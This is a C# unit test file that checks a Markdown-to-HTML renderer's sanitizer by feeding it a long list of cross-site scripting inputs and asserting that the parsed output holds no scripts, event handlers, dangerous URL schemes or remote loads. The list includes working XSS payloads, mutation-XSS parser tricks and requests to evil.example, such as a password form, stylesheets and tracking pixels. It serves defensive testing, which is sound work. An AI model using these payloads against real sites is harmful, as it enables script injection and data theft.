using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Shouldly;
using Xunit;

namespace Rialto.Sites.Tests;

/// <summary>What attackers write, judged by a real HTML parser: it must find nothing that runs, loads or dresses up.</summary>
public sealed class HostileHtmlTests
{
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\t>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=\"x\" \u000conerror=alert(1)>", "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\" &#1; javascript:alert(1)\">x</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<title><img src=x onerror=alert(1)></title>",
        "<template><img src=x onerror=alert(1)></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example>", "<applet code=x>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;inset:0\">x</p>", "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<video poster=//evil.example/x.png src=//evil.example/x.mp4></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<img src=//evil.example/pixel.gif>", "<img srcset=\"//evil.example/x 1x\">", "<picture><source srcset=//evil.example/x.png><img src=//evil.example/y.png></picture>", "![t](https://evil.example/pixel.png)",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
        "<a title=\"<img src=x onerror=alert(1)>\">x</a>", "<a href='x\" onmouseover=\"alert(1)'>x</a>", "`<img src=x onerror=alert(1)>`", "```\n</code></pre><script>alert(1)</script>\n```", "```x\"><script>alert(1)</script>\ny\n```",
        "```js title=\"<script>alert(1)</script>\"\nx\n```", "$</span><script>alert(1)</script>$", "```mermaid\n</pre><script>alert(1)</script>\n```", "<rialto-slot n=\"0\"><rialto-slot n=\"-1\"><rialto-slot n=\"99999999999\">", "<div class=\"top-bar skip\">x</div>",
        "<p id=search>x</p><a name=search>y</a><img name=cookie>", "<h2 onclick=alert(1)># x</h2>", "<kbd onclick=alert(1)>x</kbd>", "<td><script>alert(1)</script></td>", "<a href=\"https://ok.example\" target=_blank ping=//evil.example>x</a>",
        "<b <script>alert(1)</script>0", "<<script>alert(1);//<</script>", "<a\u00a0href=javascript:alert(1)>x</a>", "\u0000<scr\u0000ipt>alert(1)</script>", "<img src=`x` onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
    ];

    [Theory, MemberData(nameof(Attacks))]
    public void Nothing_in_a_document_runs_loads_or_dresses_up(string attack)
    {
        foreach (var text in (string[])[attack, $"# Title\n\n{attack}\n\ntext", $"<div>\n{attack}\n</div>", $"| a |\n| - |\n| {attack.Replace("\n", " ", StringComparison.Ordinal)} |"]) Inspect(Written.Markdown(text), attack);
    }

    [Fact]
    public void What_is_written_reads_the_same_a_second_time()
    {
        foreach (var attack in Attacks.Select(row => row.Data))
        {
            var once = Parse(Written.Markdown(attack)).InnerHtml;
            Parse(once).InnerHtml.ShouldBe(once, attack);
        }
    }

    internal static void Inspect(string html, string because)
    {
        foreach (var element in Parse(html).QuerySelectorAll("*"))
        {
            AllowedHtml.Removed.ShouldNotContain(element.LocalName, because);
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", because);
            (element.LocalName is "form" or "button" or "base" or "meta" or "link" or "audio" or "body").ShouldBeFalse($"{element.LocalName}: {because}");
            foreach (var attribute in element.Attributes) Inspect(element, attribute, because);
        }
    }

    private static void Inspect(IElement element, IAttr attribute, string because)
    {
        attribute.Name.StartsWith("on", StringComparison.Ordinal).ShouldBeFalse(because);
        (attribute.Name is "srcdoc" or "formaction" or "action" or "ping" or "poster" or "target" or "background").ShouldBeFalse(because);
        if (attribute.Name == "style") attribute.Value.ShouldMatch(@"^width:\d{1,3}%;height:auto$", because);
        if (attribute.Name == "href" && Addresses.Scheme(Addresses.Clean(attribute.Value)) is { } scheme) Addresses.IsFollowed(scheme).ShouldBeTrue($"{attribute.Value}: {because}");
        if (attribute.Name is "src" or "srcset") Addresses.Scheme(Addresses.Clean(attribute.Value)).ShouldBeNull(because);
        if (attribute.Name is "id" or "name" && element.LocalName is not ['h', >= '1' and <= '6']) attribute.Value.ShouldStartWith(Identifiers.Prefix, customMessage: because);
        if (attribute.Name == "class") attribute.Value.ShouldNotContain("top-bar", customMessage: because);
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument($"<!DOCTYPE html><body>{html}").Body!;
}
